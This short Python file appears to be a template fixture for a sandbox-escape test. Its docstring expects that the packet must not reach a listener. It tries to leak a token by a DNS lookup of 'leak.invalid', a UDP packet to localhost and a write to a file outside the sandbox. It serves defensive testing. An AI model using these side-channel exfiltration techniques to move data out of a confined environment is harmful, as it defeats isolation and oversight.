"""Sends what it knows in a UDP packet, and by a name lookup.

Must not: reach a listener.
"""

import traceback


def tell(what):
    """By every way out that there is: output, a message, a file outside."""
    print(what)
    try:
        with open("@OUTSIDE@/leaked", "a") as file:
            file.write(str(what))
    except OSError:
        pass
    raise RuntimeError(str(what))


def double(x):
    try:
        found = look(x)
    except OSError as error:
        found = type(error).__name__
    tell(found)


def look(x):
    import socket

    try:
        socket.gethostbyname("leak.invalid")
    except OSError:
        pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"leak", ("127.0.0.1", @UDP@))
    return "sent @TOKEN@"
